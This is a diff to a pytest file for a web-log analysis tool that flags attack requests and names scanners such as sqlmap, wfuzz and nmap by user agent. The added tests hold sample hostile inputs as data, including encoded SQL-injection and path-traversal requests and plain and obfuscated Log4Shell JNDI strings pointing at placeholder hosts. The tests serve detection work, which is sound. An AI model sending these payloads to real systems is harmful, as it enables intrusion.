@@ -11,7 +11,9 @@ percent-encoded once or twice.
 from __future__ import annotations
 
 import random
+import re
 from collections.abc import Callable
+from pathlib import Path
 from urllib.parse import quote_from_bytes
 
 import pyarrow as pa
@@ -20,16 +22,19 @@ import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
+from upkeeper.logs.access import ScanOptions, make_accumulator
 from upkeeper.logs.arrowscan import _prefilter
 from upkeeper.logs.classify import (
     ATTACK_PATTERNS,
     attack_categories,
     attack_category,
+    decode_request,
     is_bot,
     normalize_endpoints,
     request_paths,
     scanner_name,
 )
+from upkeeper.logs.nginx_format import COMBINED_TIMED
 
 
 def alternatives(pattern: str) -> list[str]:
@@ -264,6 +269,87 @@ def test_attack_category(line: bytes, category: str | None) -> None:
         assert len(BENIGN) in re2_candidates(lines)  # and so does the pyarrow path's pre-filter
 
 
+# -- real traffic, as nginx logged it (tests/logs/corpus/README.md says who sent it) ------------------
+
+CORPUS = Path(__file__).parent / "corpus"
+_LOGGED = re.compile(rb'^\S+ - \S+ \[[^\]]+\] "(.*)" \d{3} \d+ "[^"]*" "([^"]*)" \S+$')
+
+
+def corpus(name: str) -> list[tuple[bytes, bytes]]:
+    """(request line, user agent) of each line of ``corpus/<name>.log``, as nginx wrote them."""
+    out = []
+    for line in (CORPUS / f"{name}.log").read_bytes().splitlines():
+        m = _LOGGED.match(line)
+        assert m, line
+        out.append((m.group(1), m.group(2)))
+    return out
+
+
+REAL = [(req, cat) for cat in ("sql_injection", "path_traversal", "scanner_probe", "xss") for req, _ua in corpus(cat)]
+REAL_BENIGN = [req for req, _ua in corpus("benign")]
+
+
+@pytest.mark.parametrize(("line", "category"), REAL, ids=[r[0].decode()[:70] for r in REAL])
+def test_real_attack_requests_are_flagged(line: bytes, category: str) -> None:
+    assert attack_category(line) == category
+    lines = [*BENIGN, line, *BENIGN]
+    check_prefilters(lines)
+    assert attack_categories(lines) == {len(BENIGN): category}
+
+
+@pytest.mark.parametrize("line", REAL_BENIGN, ids=[r.decode()[:70] for r in REAL_BENIGN])
+def test_real_ordinary_requests_are_not_flagged(line: bytes) -> None:
+    assert attack_category(line) is None
+    assert attack_categories([*BENIGN, line]) == {}
+
+
+def test_real_scanner_agents_are_named() -> None:
+    agents = {ua for cat in ("sql_injection", "path_traversal", "scanner_probe", "xss") for _r, ua in corpus(cat)}
+    assert {scanner_name(a) for a in agents} == {"sqlmap", "wfuzz", "nmap", None}  # None: sqlmap --random-agent
+    assert scanner_name(b"Wfuzz/3.1.0") == "wfuzz"  # not ffuf, another tool
+    assert scanner_name(b"Fuzz Faster U Fool v2.1.0") == "ffuf"  # ffuf's own user agent
+    assert {scanner_name(ua) for _r, ua in corpus("benign")} == {None}
+    assert {scanner_name(ua) for _r, ua in corpus("exploit_agents")} == {"shellshock"}
+
+
+@pytest.mark.parametrize(("line", "decoded"), [
+    # nginx's \xHH escapes (quotes, backslashes), IIS %uHHHH, overlong UTF-8, four-fold percent-encoding
+    (b"GET /item.html?id=\\x22%20or%20\\x22a\\x22=\\x22a HTTP/1.1", b'get /item.html?id=" or "a"="a http/1.1'),
+    (b"GET /..\\x5C/..\\x5C/boot.ini HTTP/1.1", b"get /..\\/..\\/boot.ini http/1.1"),
+    (b"GET /item.html?id=%u0031%u003B%u0057%u0041%u0049%u0054 HTTP/1.1", b"get /item.html?id=1;wait http/1.1"),
+    (b"GET %c0%2e%c0%2e/%c0%2e%c0%2e/boot.ini HTTP/1.1", b"get ../../boot.ini http/1.1"),
+    (b"GET /f=..%c0%af..%c0%afetc HTTP/1.1", b"get /f=../../etc http/1.1"),
+    (b"GET /f=%252525%25255c.. HTTP/1.1", b"get /f=%\\.. http/1.1"),
+    (b"GET /item.html?id=%2531%252F%252A%252A%252F%254F%2552 HTTP/1.1", b"get /item.html?id=1 or http/1.1"),
+    (b"GET /search?q=%EF%BC%8E%EF%BC%8E HTTP/1.1", b"get /search?q=.. http/1.1"),  # full-width dots
+    (b"GET /search?q=100%25+cotton HTTP/1.1", b"get /search?q=100% cotton http/1.1"),
+    # escape=json: \" and \\ (a literal "\x41" a client sent stays as it is)
+    (b'GET /a?q=\\"x\\"&b=\\\\x41 HTTP/1.1', b'get /a?q="x"&b=\\x41 http/1.1'),
+    (b"GET /a?b=\\x5Cx41 HTTP/1.1", b"get /a?b=\\x41 http/1.1"),
+])
+def test_decode_request(line: bytes, decoded: bytes) -> None:
+    assert decode_request(line) == decoded
+
+
+def test_real_corpus_through_both_scan_paths() -> None:
+    """The corpus files as one log, through the pyarrow path and the line-by-line path: every attack line
+    counted once in its category, under the right scanner, no benign line counted."""
+    logs = {cat: (CORPUS / f"{cat}.log").read_bytes() for cat in
+            ("benign", "sql_injection", "path_traversal", "scanner_probe", "xss")}
+    buf = b"".join(logs.values())
+    want = {cat: data.count(b"\n") for cat, data in logs.items() if cat != "benign"}
+    for arrow in (True, False):
+        acc = make_accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow=arrow, arrow_min_buffer=1))
+        acc.feed(buf, "corpus", 0)
+        p = acc.partial()
+        assert p.fast_lines == p.lines == buf.count(b"\n")
+        got: dict[str, int] = {}
+        for (cat, _ip, _st), c in p.attacks.items():
+            got[cat] = got.get(cat, 0) + c
+        assert got == want, arrow
+        assert {name for name, _ip in p.scanners} == {"sqlmap", "wfuzz", "nmap"}
+
+
 # -- bots and scanners by user agent -------------------------------------------------------------
 
 AGENTS = [
@@ -292,8 +378,16 @@ AGENTS = [
     (b"Mozilla/5.0 zgrab/0.x", True, "zgrab"),
     (b"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", True, "nuclei"),
     (b"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", True, "wpscan"),
-    (b"Fuzz Faster U Fool v2.1.0 ffuf", True, "ffuf"),
-    (b"masscan/1.3", True, "nmap"),
+    (b"masscan/1.3", True, "masscan"),
+    # as a real nginx logged them: ffuf 1.1.0, wfuzz 3.1.0, gobuster 3.5, nmap 7.93's scripts (Debian 12)
+    (b"Fuzz Faster U Fool v1.1.0", True, "ffuf"),
+    (b"Wfuzz/3.1.0", True, "wfuzz"),
+    (b"gobuster/3.5", True, "gobuster"),
+    (b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", True, "nmap"),
+    # exploits as the user agent: Log4Shell as Log4j scanners send it, plain and obfuscated
+    (b"${jndi:ldap://127.0.0.1:1389/Exploit}", True, "log4shell"),
+    (b"${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://a.example/x}", True, "log4shell"),
+    (b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://a.example/x}", True, "log4shell"),
 ]
 
 
